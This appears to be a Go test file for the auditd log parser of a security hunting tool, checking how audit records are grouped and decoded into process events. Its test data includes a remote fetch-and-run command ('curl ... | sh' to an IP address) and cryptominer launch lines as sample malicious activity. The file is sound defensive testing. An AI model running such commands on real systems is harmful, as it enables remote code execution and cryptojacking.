package host

import (
	"errors"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/mamori-sec/mamori/internal/event"
	"github.com/mamori-sec/mamori/internal/record"
	"github.com/valyala/fastjson"
)

var auditdHint = record.Hint{Format: "auditd"}

func TestSplitAuditdXmrigExecveWithHexArguments(t *testing.T) {
	t.Parallel()
	recs, bads := split(t, SplitAuditd, fixture(t, "auditd_xmrig.log"))
	if len(bads) != 0 || len(recs) != 1 || recs[0].line != 1 {
		t.Fatalf("got %d records %v, bad %v; want one record at line 1", len(recs), recs, bads)
	}
	// The synthetic object carries the decoded proctitle and both PATH records.
	v := fastjson.MustParse(recs[0].json)
	if got := string(v.GetStringBytes("PROCTITLE", "proctitle")); got != "xmrig -o stratum+tcp://pool.example:3333" {
		t.Errorf("proctitle = %q", got)
	}
	if got := len(v.GetArray("PATH")); got != 2 {
		t.Errorf("PATH records = %d, want 2", got)
	}

	e := decodeOne(t, recs[0].json, auditdHint, ShapeAuditd)
	p := e.Process
	want := event.Process{
		Host: "vm-miner-01", Image: "/tmp/.x/xmrig", CommandLine: "xmrig -o stratum+tcp://pool.example:3333",
		User: "0", LoginUser: "1001", PID: 901, ParentPID: 900,
	}
	if *p != want {
		t.Errorf("process = %+v\nwant      %+v", *p, want)
	}
	if wantT := time.UnixMilli(1700000000123).UTC(); !e.Time.Equal(wantT) || e.Time.Location() != time.UTC {
		t.Errorf("time = %v, want %v", e.Time, wantT)
	}
	if e.Operation != "execve" || e.Outcome != event.OutcomeSucceeded || e.Status != "yes" {
		t.Errorf("operation %q outcome %v status %q", e.Operation, e.Outcome, e.Status)
	}
	if e.Process.LoginUser != "1001" || !e.Principal.Empty() || e.ID != "vm-miner-01:1700000000.123:4242" {
		t.Errorf("login user %q principal %+v id %q", e.Process.LoginUser, e.Principal, e.ID)
	}
}

func TestSplitAuditdGroupsInterleavedRecordsBySerial(t *testing.T) {
	t.Parallel()
	recs, bads := split(t, SplitAuditd, fixture(t, "auditd_interleaved.log"))

	wantBad := []badLine{{5, errNotAudit}, {14, errAuditStamp}}
	if len(bads) != len(wantBad) {
		t.Fatalf("bad lines %v, want %v", bads, wantBad)
	}
	for i, b := range bads {
		if b.line != wantBad[i].line || !errors.Is(b.reason, wantBad[i].reason) {
			t.Errorf("bad[%d] = line %d %v, want line %d %v", i, b.line, b.reason, wantBad[i].line, wantBad[i].reason)
		}
	}

	type want struct {
		line    int
		events  int
		image   string
		cmd     string
		host    string
		user    string
		login   string
		op      string
		pid     int64
		seconds float64
	}
	wants := []want{
		{line: 1, events: 1, image: "/bin/dash", cmd: "/bin/sh -c curl -s http://203.0.113.9/x.sh | sh", user: "0", op: "execve", pid: 200, seconds: 1700000100.000},
		{line: 2, events: 1, image: "/tmp/xm rig", cmd: "xm rig --donate-level=0 --cpu-priority=5", user: "1000", login: "1000", op: "execve", pid: 201, seconds: 1700000100.001},
		{line: 7}, // USER_AUTH: read, no process
		{line: 9}, // execve that failed (success=no)
		{line: 11, events: 1, image: "/usr/bin/kdevtmpfsi", cmd: "kdevtmpfsi", host: "vm2", user: "root", login: "root", op: "execve", pid: 6, seconds: 1700000103},
	}
	if len(recs) != len(wants) {
		t.Fatalf("got %d records, want %d: %v", len(recs), len(wants), recs)
	}
	for i, w := range wants {
		if recs[i].line != w.line {
			t.Errorf("record %d starts at line %d, want %d", i, recs[i].line, w.line)
		}
		evs, err := decode(t, recs[i].json, auditdHint, ShapeAuditd)
		if err != nil || len(evs) != w.events {
			t.Errorf("record at line %d: %d events, err %v; want %d\n%s", w.line, len(evs), err, w.events, recs[i].json)
			continue
		}
		if w.events == 0 {
			continue
		}
		e, p := evs[0], evs[0].Process
		if p.Image != w.image || p.CommandLine != w.cmd || p.Host != w.host || p.User != w.user ||
			p.LoginUser != w.login || e.Operation != w.op || p.PID != w.pid {
			t.Errorf("line %d: got image %q cmd %q host %q user %q login %q op %q pid %d",
				w.line, p.Image, p.CommandLine, p.Host, p.User, p.LoginUser, e.Operation, p.PID)
		}
		if wantT := time.UnixMilli(int64(w.seconds*1000 + 0.5)).UTC(); !e.Time.Equal(wantT) {
			t.Errorf("line %d: time %v, want %v", w.line, e.Time, wantT)
		}
	}
}

func TestDecodeAuditdObjects(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name    string
		rec     string
		events  int
		wantErr bool
		check   func(t *testing.T, e event.Event)
	}{
		{
			name:   "USER_AUTH event is read but is no process",
			rec:    `{"time":"1700000000.1","serial":"1","types":["USER_AUTH"],"USER_AUTH":{"pid":"3","uid":"0","msg":"op=PAM:authentication res=failed"}}`,
			events: 0,
		},
		{
			name:   "failed execve yields nothing",
			rec:    `{"time":"1700000000.1","serial":"2","types":["SYSCALL"],"SYSCALL":{"arch":"c000003e","syscall":"59","success":"no","exe":"/opt/x"}}`,
			events: 0,
		},
		{
			name:   "a syscall that is not execve yields nothing",
			rec:    `{"time":"1700000000.1","serial":"3","types":["SYSCALL"],"SYSCALL":{"arch":"c000003e","syscall":"54","success":"yes","exe":"/sbin/xtables-multi"}}`,
			events: 0,
		},
		{
			name:   "execveat on x86_64 is a process creation named execveat",
			rec:    `{"time":"1700000000.5","serial":"4","types":["SYSCALL","PROCTITLE"],"SYSCALL":{"arch":"c000003e","syscall":"322","success":"yes","pid":"10","ppid":"9","exe":"/usr/bin/xmrig","comm":"xmrig"},"PROCTITLE":{"proctitle":"xmrig --nicehash"}}`,
			events: 1,
			check: func(t *testing.T, e event.Event) {
				if e.Operation != "execveat" || e.Process.CommandLine != "xmrig --nicehash" || e.Process.Image != "/usr/bin/xmrig" {
					t.Errorf("op %q cmd %q image %q", e.Operation, e.Process.CommandLine, e.Process.Image)
				}
			},
		},
		{
			name:   "i386 execve number 11 is a process creation",
			rec:    `{"time":"1700000000","serial":"5","types":["SYSCALL"],"SYSCALL":{"arch":"40000003","syscall":"11","success":"yes","comm":"minerd"}}`,
			events: 1,
			check: func(t *testing.T, e event.Event) {
				if e.Process.CommandLine != "minerd" {
					t.Errorf("cmd %q, want the comm as last resort", e.Process.CommandLine)
				}
			},
		},
		{
			name:   "EXECVE without SYSCALL takes the image from PATH item 0",
			rec:    `{"time":"1700000000.25","serial":"6","types":["EXECVE","PATH"],"EXECVE":{"argc":"2","a0":"./cpuminer","a1":"-a"},"PATH":[{"item":"0","name":"/home/u/cpuminer"}]}`,
			events: 1,
			check: func(t *testing.T, e event.Event) {
				if e.Process.Image != "/home/u/cpuminer" || e.Process.CommandLine != "./cpuminer -a" {
					t.Errorf("image %q cmd %q", e.Process.Image, e.Process.CommandLine)
				}
				if e.Process.LoginUser != "" || e.Process.User != "" {
					t.Errorf("principal %q user %q, want none", e.Principal.Name, e.Process.User)
				}
			},
		},
		{
			name:   "argc larger than the arguments present stops at the first missing",
			rec:    `{"time":"1700000000","serial":"7","types":["EXECVE"],"EXECVE":{"argc":"99999999","a0":"sh","a1":"-c"}}`,
			events: 1,
			check: func(t *testing.T, e event.Event) {
				if e.Process.CommandLine != "sh -c" {
					t.Errorf("cmd %q", e.Process.CommandLine)
				}
			},
		},
		{
			name:   "unset auid gives no principal",
			rec:    `{"time":"1700000000","serial":"8","types":["SYSCALL","EXECVE"],"SYSCALL":{"syscall":"59","success":"yes","auid":"4294967295","uid":"0"},"EXECVE":{"argc":"1","a0":"x"}}`,
			events: 1,
			check: func(t *testing.T, e event.Event) {
				if !e.Principal.Empty() || e.Process.User != "0" {
					t.Errorf("principal %+v user %q", e.Principal, e.Process.User)
				}
			},
		},
		{
			name:    "execve without a time is an error",
			rec:     `{"serial":"9","types":["EXECVE"],"EXECVE":{"argc":"1","a0":"x"}}`,
			wantErr: true,
		},
		{
			name:    "execve with a malformed time is an error",
			rec:     `{"time":"soon","serial":"10","types":["EXECVE"],"EXECVE":{"argc":"1","a0":"x"}}`,
			wantErr: true,
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			evs, err := decode(t, tt.rec, auditdHint, ShapeAuditd)
			if (err != nil) != tt.wantErr {
				t.Fatalf("err = %v, want error %v", err, tt.wantErr)
			}
			if tt.wantErr {
				return
			}
			if len(evs) != tt.events {
				t.Fatalf("%d events, want %d", len(evs), tt.events)
			}
			if tt.check != nil {
				if evs[0].Time.IsZero() {
					t.Error("zero time")
				}
				tt.check(t, evs[0])
			}
		})
	}
}

func TestSplitAuditdLineForms(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name  string
		text  string
		check func(t *testing.T, v *fastjson.Value)
	}{
		{
			name: "syslog header without node gives the syslog host",
			text: "<85>Mar  1 00:10:05 vm3 audisp-syslog: type=EXECVE msg=audit(1.5:1): argc=1 a0=\"x\"\n",
			check: func(t *testing.T, v *fastjson.Value) {
				if h := string(v.GetStringBytes("syslog_host")); h != "vm3" || v.Exists("node") {
					t.Errorf("syslog_host %q, node present %v", h, v.Exists("node"))
				}
			},
		},
		{
			name: "quoted value is kept even when it looks like hex",
			text: "type=EXECVE msg=audit(1.5:1): argc=1 a0=\"4142\"\n",
			check: func(t *testing.T, v *fastjson.Value) {
				if a := string(v.GetStringBytes("EXECVE", "a0")); a != "4142" {
					t.Errorf("a0 = %q", a)
				}
			},
		},
		{
			name: "SYSCALL register arguments are not hex-decoded",
			text: "type=SYSCALL msg=audit(1.5:1): arch=c000003e syscall=59 a0=4142 exe=\"/x\"\n",
			check: func(t *testing.T, v *fastjson.Value) {
				if a := string(v.GetStringBytes("SYSCALL", "a0")); a != "4142" {
					t.Errorf("a0 = %q", a)
				}
			},
		},
		{
			name: "hex argument with control bytes and invalid UTF-8 survives verbatim",
			text: "type=EXECVE msg=audit(1.5:1): argc=1 a0=0722FF0A\n",
			check: func(t *testing.T, v *fastjson.Value) {
				if a := string(v.GetStringBytes("EXECVE", "a0")); a != "\a\"\xff\n" {
					t.Errorf("a0 = %q", a)
				}
			},
		},
		{
			name: "ausearch separators and blank lines are skipped",
			text: "----\ntime->Tue Nov 10 07:48:16 2020\n\ntype=EXECVE msg=audit(1.5:1): argc=1 a0=\"x\"\n",
			check: func(t *testing.T, v *fastjson.Value) {
				if s := string(v.GetStringBytes("serial")); s != "1" {
					t.Errorf("serial %q", s)
				}
			},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			recs, bads := split(t, SplitAuditd, []byte(tt.text))
			if len(recs) != 1 || len(bads) != 0 {
				t.Fatalf("records %v bad %v", recs, bads)
			}
			tt.check(t, fastjson.MustParse(recs[0].json))
		})
	}
}

func TestSplitAuditdSameSerialOnTwoNodesIsTwoEvents(t *testing.T) {
	t.Parallel()
	text := "node=a type=EXECVE msg=audit(1.5:7): argc=1 a0=\"x\"\nnode=b type=EXECVE msg=audit(1.5:7): argc=1 a0=\"y\"\n"
	recs, _ := split(t, SplitAuditd, []byte(text))
	if len(recs) != 2 || recs[0].line != 1 || recs[1].line != 2 {
		t.Fatalf("records %v, want two at lines 1 and 2", recs)
	}
}

func TestSplitAuditdReturnsEmitError(t *testing.T) {
	t.Parallel()
	stop := errors.New("stop")
	calls := 0
	err := SplitAuditd(strings.NewReader(string(fixture(t, "auditd_interleaved.log"))),
		func([]byte, int) error { calls++; return stop }, func(int, error) {})
	if !errors.Is(err, stop) || calls != 1 {
		t.Fatalf("err %v after %d calls, want stop after 1", err, calls)
	}
}

func TestSplitAuditdReportsOverlongLine(t *testing.T) {
	t.Parallel()
	text := "type=EXECVE msg=audit(1.5:1): argc=1 a0=\"" + strings.Repeat("x", maxAuditLine) + "\"\ntype=EXECVE msg=audit(1.5:2): argc=1 a0=\"y\"\n"
	recs, bads := split(t, SplitAuditd, []byte(text))
	if len(bads) != 1 || bads[0].line != 1 || len(recs) != 1 || recs[0].line != 2 {
		t.Fatalf("records %v bad %v", recs, bads)
	}
}

func TestLooksLikeAuditd(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name   string
		prefix string
		want   bool
	}{
		{"raw log", "type=DAEMON_START msg=audit(1551485405.594:7507): op=start ver=2.8.2\n", true},
		{"node prefix after blank line", "\nnode=vm1 type=SYSCALL msg=audit(1.2:3): arch=c000003e\n", true},
		{"ausearch output", "----\ntime->Tue Nov 10 07:48:16 2020\ntype=PROCTITLE msg=audit(1604994496.155:92733): proctitle=6172\n", true},
		{"audisp syslog line", "Mar  1 00:10:05 vm1 audispd: node=vm1 type=EOE msg=audit(1.2:3): \n", true},
		{"ordinary syslog", "Mar  1 00:10:05 vm1 sshd[1]: Accepted publickey\ntype=EOE msg=audit(1.2:3): \n", false},
		{"JSON", `{"type":"SYSCALL","msg":"audit(1.2:3)"}`, false},
		{"sysmon XML", "<Event>\n<System>", false},
		{"empty", "", false},
	}
	for _, tt := range tests {
		if got := LooksLikeAuditd([]byte(tt.prefix)); got != tt.want {
			t.Errorf("%s: LooksLikeAuditd = %v, want %v", tt.name, got, tt.want)
		}
	}
}

func TestSplitAuditdOldProctitleTypeName(t *testing.T) {
	t.Parallel()
	text := "type=SYSCALL msg=audit(1.5:1): arch=c000003e syscall=59 success=yes pid=5 exe=\"/tmp/minerd\"\n" +
		"type=UNKNOWN[1327] msg=audit(1.5:1): proctitle=6D696E6572640061\n"
	recs, _ := split(t, SplitAuditd, []byte(text))
	if len(recs) != 1 {
		t.Fatalf("records %v", recs)
	}
	if e := decodeOne(t, recs[0].json, auditdHint, ShapeAuditd); e.Process.CommandLine != "minerd a" {
		t.Errorf("command line %q, want the decoded proctitle", e.Process.CommandLine)
	}
}

func TestSyslogHost(t *testing.T) {
	t.Parallel()
	tests := []struct{ prefix, want string }{
		{"<85>Mar  1 00:10:05 vm1 audispd: ", "vm1"},
		{"Mar  1 00:10:05 vm1 audispd: ", "vm1"},
		{"<13>1 2019-03-01T00:10:05Z vm2 audispd - - - ", "vm2"},
		{"2019-03-01T00:10:05.123+00:00 vm3 audisp-syslog: ", "vm3"},
		{"garbage ", ""},
		{"", ""},
	}
	for _, tt := range tests {
		if got := syslogHost([]byte(tt.prefix)); got != tt.want {
			t.Errorf("syslogHost(%q) = %q, want %q", tt.prefix, got, tt.want)
		}
	}
}

// A worker keeps its builder for the whole hunt: a huge event (a hostile
// log) must not hold its parse or its record after the next one.
func TestAuditBuilderLetsGoOfAHugeEvent(t *testing.T) {
	t.Parallel()
	var huge strings.Builder
	for i := range 4000 {
		fmt.Fprintf(&huge, "type=PATH msg=audit(1700000100.000:1): item=%d name=\"/tmp/%0300d\"\n", i, i)
	}
	var b AuditBuilder
	if rec := b.Build([]byte(huge.String())); len(rec) < 1<<20 {
		t.Fatalf("the huge event's record is only %d bytes", len(rec))
	}
	small := "type=EXECVE msg=audit(1700000101.000:2): argc=1 a0=\"ls\"\n"
	if rec := b.Build([]byte(small)); !strings.Contains(string(rec), `"a0":"ls"`) {
		t.Fatalf("record %s", rec)
	}
	if cap(b.out.b) > maxKeptObject || cap(b.recs) > maxKeptRecords {
		t.Errorf("after a small event the builder holds %d bytes of record and room for %d records", cap(b.out.b), cap(b.recs))
	}
	for _, r := range b.recs[:cap(b.recs)] {
		if r.fields != nil {
			t.Fatal("a record's fields are still held")
		}
	}
	for _, f := range b.fields[:cap(b.fields)] {
		if f.key != "" || f.val != "" {
			t.Fatal("a field is still held")
		}
	}
}

// A real audit log (an Azure VM's, from msticpy's tests) is mostly events
// that are no process start: BuildProcess writes only the process starts,
// every one Build's record and decoded to one process event, and passes
// over the rest, each of which Build's record decodes to nothing.
func TestBuildProcessOnARealAuditLog(t *testing.T) {
	t.Parallel()
	var b, p AuditBuilder
	var sc record.Scratch
	events, starts := 0, 0
	err := GroupAuditd(strings.NewReader(string(fixture(t, "msticpy_auditd.log"))), func(group []byte, _ int) error {
		events++
		v, err := fastjson.ParseBytes(b.Build(group))
		if err != nil {
			t.Fatal(err)
		}
		evs, err := Decode(&sc, v, ShapeAuditd, nil)
		sc.Reset()
		proc := p.BuildProcess(group)
		if err != nil || (proc != nil) != (len(evs) == 1) || len(evs) > 1 {
			t.Fatalf("BuildProcess wrote %q; the record decodes to %d events, error %v", proc, len(evs), err)
		}
		if proc != nil {
			starts++
		}
		return nil
	}, func(line int, reason error) { t.Errorf("line %d: %v", line, reason) })
	if err != nil {
		t.Fatal(err)
	}
	if events != 938 || starts != 146 {
		t.Errorf("%d events, %d process starts; the log holds 938 and 146", events, starts)
	}
}
